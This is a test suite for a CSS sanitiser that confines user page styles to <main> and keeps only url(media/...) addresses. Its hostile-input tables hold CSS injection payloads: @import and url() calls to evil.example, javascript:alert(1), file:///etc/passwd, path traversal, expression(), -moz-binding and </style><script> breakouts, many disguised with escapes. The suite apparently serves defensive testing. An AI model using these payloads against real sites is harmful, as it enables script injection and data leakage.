import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cleanCss, MAX_CSS_BYTES } from '../../dist/lib/css/clean-css.js';
import { tokenize } from '../../dist/lib/css/tokenizer.js';
import { AppError } from '../../dist/errors.js';

/** Everything a saved style must never hold, judged on the tokens the browser would see. */
function assertSafe(css: string): void {
  assert.equal(css.includes('<'), false, `raw "<" in ${css}`);
  const { tokens } = tokenize(css);
  let depth = 0;
  let inUrlFunction = false;
  for (const token of tokens) {
    if (token.type === '{' || token.type === '(' || token.type === '[' || token.type === 'function') depth++;
    if (token.type === '}' || token.type === ')' || token.type === ']') depth--;
    assert.ok(depth >= 0, `unbalanced in ${css}`);
    assert.notEqual(token.type, 'bad-url');
    assert.notEqual(token.type, 'bad-string');
    assert.notEqual(token.type, 'CDO');
    assert.notEqual(token.type, 'CDC');
    if (token.type === 'at-keyword') assert.notEqual(token.value.toLowerCase(), 'import', css);
    if (token.type === 'ident') {
      assert.notEqual(token.value.toLowerCase(), '@import', css);
      assert.equal(/behavior|binding/i.test(token.value), false, css);
    }
    if (token.type === 'function') {
      assert.equal(/expression|image-set/i.test(token.value), false, css);
      inUrlFunction = token.value.toLowerCase() === 'url';
    } else if (token.type === 'string' && inUrlFunction) {
      assert.ok(token.value.startsWith('media/'), `url string ${token.value}`);
    }
    if (token.type === 'url') assert.ok(token.value.startsWith('media/'), `url ${token.value}`);
  }
  assert.equal(depth, 0, `unbalanced in ${css}`);
}

test('rules are scoped to main; body, html and :root become main; at-rule structure is kept', () => {
  const result = cleanCss('body{color:red} p, .a b {margin:0 !important} :root{--x:1} html > body .y{a:b} body.dark p{c:d} main h2{e:f}\n@media (max-width:600px){h1{font-size:2em}}\n@supports (display:grid){ul{display:grid}}\n@keyframes spin{from{transform:rotate(0)}to{transform:rotate(360deg)}}');
  assert.equal(result.css, [
    'main {', '  color: red;', '}',
    'main p, main .a b {', '  margin: 0 !important;', '}',
    'main {', '  --x: 1;', '}',
    'main .y {', '  a: b;', '}',
    'main.dark p {', '  c: d;', '}',
    'main h2 {', '  e: f;', '}',
    '@media (max-width:600px) {', '  main h1 {', '    font-size: 2em;', '  }', '}',
    '@supports (display:grid) {', '  main ul {', '    display: grid;', '  }', '}',
    '@keyframes spin {', '  from {', '    transform: rotate(0);', '  }', '  to {', '    transform: rotate(360deg);', '  }', '}',
    '',
  ].join('\n'));
  assert.equal(result.cleaned, false);
  assert.deepEqual(result.problems, []);
});

test('url(media/...) is kept and written as a quoted url', () => {
  const result = cleanCss('.hero{background:url(media/posts/hello/sky.png) no-repeat} @font-face{font-family:X;src:url("media/posts/hello/f.woff2") format("woff2"), local("Arial")}');
  assert.equal(result.css, 'main .hero {\n  background: url("media/posts/hello/sky.png") no-repeat;\n}\n@font-face {\n  font-family: X;\n  src: url("media/posts/hello/f.woff2") format("woff2"), local("Arial");\n}\n');
  assert.equal(result.cleaned, false);
});

test('the cleaner is idempotent: cleaning its own output changes nothing', () => {
  const first = cleanCss('@import "x"; p{color:red;background:url(http://a/b)} a:hover>b~c+d, [title="x<y"]{content:"\\"q\\""}');
  const second = cleanCss(first.css);
  assert.equal(second.css, first.css);
  assert.equal(second.cleaned, false);
});

test('the removal is reported with a sentence and the rest of the rule survives', () => {
  const result = cleanCss('p{color:red;background:url(https://evil.example/a.png);margin:0}');
  assert.equal(result.css, 'main p {\n  color: red;\n  margin: 0;\n}\n');
  assert.equal(result.cleaned, true);
  assert.deepEqual(result.problems.map((p) => p.message), [
    "The declaration background was removed: only addresses of this entry's media, written url(media/...), are kept.",
  ]);
});

const HOSTILE: Record<string, string> = {
  'plain @import': '@import url(https://evil.example/x.css); p{color:red}',
  'upper-case @IMPORT': '@IMPORT "x.css"; p{color:red}',
  'mixed-case @ImPoRt': '@ImPoRt url(x.css) screen; p{color:red}',
  'escaped letter @\\69mport': '@\\69mport "x.css"; p{color:red}',
  'escaped letters @\\49 \\4d port': '@\\49 \\4d port "x.css"; p{color:red}',
  'escaped at sign \\40 import': '\\40 import url(https://evil.example/x.css); p{color:red}',
  'escaped at sign \\000040import': '\\000040import "x"; p{color:red}',
  '@import after a comment': '/* hi */@import "x"; p{color:red}',
  'comment splitting @im/**/port': '@im/**/port "x"; p{color:red}',
  '@import inside @media': '@media screen{@import "x"; p{color:red}}',
  '@import with no semicolon at the end': 'p{color:red} @import "x"',
  'other host in url()': 'p{background:url(https://evil.example/a.png)}',
  'http address': 'p{background:url(http://evil.example/a.png)}',
  'protocol-relative url()': 'p{background:url(//evil.example/a.png)}',
  'protocol-relative quoted url()': 'p{background:url("//evil.example/a.png")}',
  'backslashes as slashes': 'p{background:url("\\\\\\\\evil.example/a.png")}',
  'javascript: address': 'p{background:url("javascript:alert(1)")}',
  'escaped javascript: address': 'p{background:url(javascript\\3a alert\\28 1\\29)}',
  'data: address': 'p{background:url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)}',
  'file: address': 'p{background:url(file:///etc/passwd)}',
  'media path climbing out': 'p{background:url(media/../../secret.png)}',
  'percent-encoded dots': 'p{background:url(media/%2e%2e/secret.png)}',
  'url with escaped scheme letters': 'p{background:u\\72l(h\\74tps://evil.example/a)}',
  'src() function with a string': 'p{background:src("https://evil.example/a.png")}',
  'image() function': 'p{background:image("https://evil.example/a.png")}',
  'address hidden in a custom property': 'p{--bg:"https://evil.example/a.png";background:src(var(--bg))}',
  'font from another site': '@font-face{font-family:X;src:url(https://evil.example/f.woff2)}',
  'expression()': 'p{width:expression(alert(1))}',
  'escaped expression()': 'p{width:expr\\65ssion(alert(1))}',
  'commented expression': 'p{width:/**/expression(alert(1))}',
  'image-set()': 'p{background:image-set("media/a.png" 1x, "https://evil.example/b.png" 2x)}',
  '-webkit-image-set()': 'p{background:-webkit-image-set(url(media/a.png) 1x)}',
  'behavior': 'p{behavior:url(x.htc)}',
  '-moz-binding': 'p{-moz-binding:url(http://evil.example/x.xml#x)}',
  'escaped behavior': 'p{beh\\61vior:url(x.htc)}',
  '</style> in a string': 'p{content:"</style><script>alert(1)</script>"}',
  '</style> outside a string': 'p{color:red}</style><script>alert(1)</script>',
  '</style> inside a block': 'p{color:red;</style><script>alert(1)</script>}',
  '<!-- and -->': '<!-- p{color:red} -->',
  '< in a selector': 'p<img{color:red}',
  'unbalanced open braces': 'p{color:red; q{color:blue',
  'unbalanced close braces': '}}} p{color:red}}',
  'unbalanced parentheses': 'p{width:calc((1px + 2px)}',
  'unclosed string at the end': 'p{content:"abc',
  'string broken by a new line': 'p{content:"abc\n;color:red}',
  'unclosed url(': 'p{background:url(media/a.png',
  'unclosed comment': 'p{color:red}/* q{color:blue}',
  'deep nesting': '('.repeat(5000) + 'p{color:red}',
  'NUL bytes': 'p{col\0or:red}',
  'unknown at-rule': '@namespace url(http://evil.example); @charset "utf-8"; @page{margin:0} p{color:red}',
};

for (const [name, css] of Object.entries(HOSTILE)) {
  test(`hostile CSS is cleaned: ${name}`, () => {
    const result = cleanCss(css);
    assertSafe(result.css);
    assert.equal(result.cleaned, true, `not marked cleaned: ${result.css}`);
    assert.ok(result.problems.length > 0);
    assert.equal(cleanCss(result.css).css, result.css, 'cleaning again changes it');
  });
}

test('an @import in any spelling leaves the other rules in place', () => {
  for (const css of ['@import "x"; p{color:red}', '@IMPORT "x"; p{color:red}', '@\\69mport "x"; p{color:red}', '@\\49 MPORT "x";p{color:red}']) {
    const result = cleanCss(css);
    assert.equal(result.css, 'main p {\n  color: red;\n}\n', css);
    assert.deepEqual(result.problems.map((p) => p.message), ['@import was removed: a page style cannot load other style sheets.']);
  }
});

test('</style> inside a string is kept as text but written with escapes', () => {
  const result = cleanCss('p::after{content:"</style><b>"}');
  assert.equal(result.css, 'main p::after {\n  content: "\\3c /style\\3e \\3c b\\3e ";\n}\n');
  assert.deepEqual(tokenize(result.css).tokens.find((t) => t.type === 'string'), { type: 'string', value: '</style><b>' });
  // Already written as an escape: safe as it is, so nothing counts as cleaned.
  const escaped = cleanCss('p{content:"\\3c/style>"}');
  assertSafe(escaped.css);
  assert.equal(escaped.css, 'main p {\n  content: "\\3c /style\\3e ";\n}\n');
  assert.equal(escaped.cleaned, false);
});

test('unbalanced braces and strings are closed', () => {
  assert.equal(cleanCss('p{color:red').css, 'main p {\n  color: red;\n}\n');
  assert.equal(cleanCss('p{content:"abc').css, 'main p {\n  content: "abc";\n}\n');
  assert.deepEqual(cleanCss('p{content:"abc').problems.map((p) => p.message), ['A string is never closed.', 'A "{" was never closed; it was closed at the end.']);
});

test('64 KB is accepted and 64 KB + 1 byte is refused with a clear error', () => {
  const exact = 'p{color:red}' + ' '.repeat(MAX_CSS_BYTES - 12);
  assert.equal(Buffer.byteLength(exact), 65_536);
  assert.equal(cleanCss(exact).css, 'main p {\n  color: red;\n}\n');
  assert.throws(() => cleanCss(exact + ' '), (error: unknown) => {
    assert.ok(error instanceof AppError);
    assert.equal(error.kind, 'invalid_params');
    assert.equal(error.message, 'The CSS is 65,537 bytes; at most 65,536 bytes (64 KB) are accepted. Nothing was changed; send shorter CSS.');
    return true;
  });
  // Bytes, not characters: 32,769 two-byte letters are over the limit.
  assert.throws(() => cleanCss('é'.repeat(32_769)), AppError);
});

test('an empty input gives an empty style', () => {
  assert.deepEqual(cleanCss(''), { css: '', cleaned: false, problems: [] });
});

test('a rule aimed at the siblings of <main> (or of a root mapped to it) is scoped below main', () => {
  for (const [input, output] of [
    ['main ~ footer{display:none}', 'main main ~ footer {\n  display: none;\n}\n'],
    ['main+*{color:red}', 'main main+* {\n  color: red;\n}\n'],
    ['body ~ footer{color:red}', 'main main ~ footer {\n  color: red;\n}\n'],
    ['main.x ~ p{color:red}', 'main main.x ~ p {\n  color: red;\n}\n'],
    ['main h1{color:red}', 'main h1 {\n  color: red;\n}\n'],
    ['main p ~ p{color:red}', 'main p ~ p {\n  color: red;\n}\n'],
  ]) {
    assert.equal(cleanCss(input!).css, output, input);
  }
});

test('a nested rule stays below its parent: one beside it (+, ~) or around it (& after its start) is removed', () => {
  const removed = 'A nested rule that reaches beside or around its parent (+, ~, or & after its start) was removed: a page style stays inside <main>. Write the selector at the top level instead.';
  for (const input of [
    'main { & ~ * { outline: 5px solid red } }',
    'p { :not(&) { background: yellow } }',
    'main { + footer { display: none } }',
    'main { & + footer { display: none } }',
    'body { ~ * { display: none } }',
    'p { footer & { color: red } }',
    'p { a, :is(&) b { color: red } }',
    'main { @media (min-width: 1px) { & ~ * { color: red } } }',
  ]) {
    const result = cleanCss(input);
    assert.doesNotMatch(result.css, /[+~]|&|:not|:is/, input);
    assert.ok(result.problems.some((problem) => problem.message === removed), input);
    assertSafe(result.css);
  }
  // Going down from the parent is nesting as ever.
  assert.equal(cleanCss('.card { &:hover { color: red } > h2 { margin: 0 } p { color: blue } &.open span { color: green } }').css,
    'main .card {\n  &:hover {\n    color: red;\n  }\n  > h2 {\n    margin: 0;\n  }\n  p {\n    color: blue;\n  }\n  &.open span {\n    color: green;\n  }\n}\n');
});

test('every construct that can load an address is checked, in every case and escape; only media/... stays', () => {
  const hostile = [
    'a{background:src(https://evil.example/a.png)}',
    'a{background:SRC(https://evil.example/a.png)}',
    'a{background:s\\72 c(https://evil.example/a.png)}',
    'a{background:src(//evil.example/a.png)}',
    'a{background:image(https://evil.example/a.png)}',
    'a{background:image("https://evil.example/a.png")}',
    'a{background:cross-fade(src(https://evil.example/a.png), red)}',
    'a{background:image-set("https://evil.example/a.png" 1x)}',
    'a{background:element(#evil)}',
    'a{background:-moz-element(#evil)}',
    '@font-face{font-family:X;src:"https://evil.example/f.woff"}',
    '@namespace url(https://evil.example/ns);',
    '@namespace svg "https://evil.example/ns";',
  ];
  for (const css of hostile) {
    const result = cleanCss(css);
    assert.equal(result.cleaned, true, css);
    assert.ok(!/evil|element\(/i.test(result.css), `${css} -> ${result.css}`);
  }
  const kept = cleanCss('a{background:cross-fade(url(media/posts/x/a.png) 50%, red);width:calc(100% / 3);background-image:image("media/posts/x/b.png")}');
  assert.equal(kept.cleaned, false);
  assert.match(kept.css, /cross-fade\(url\("media\/posts\/x\/a\.png"\) 50%, red\)/);
  assert.match(kept.css, /calc\(100% \/ 3\)/);
});
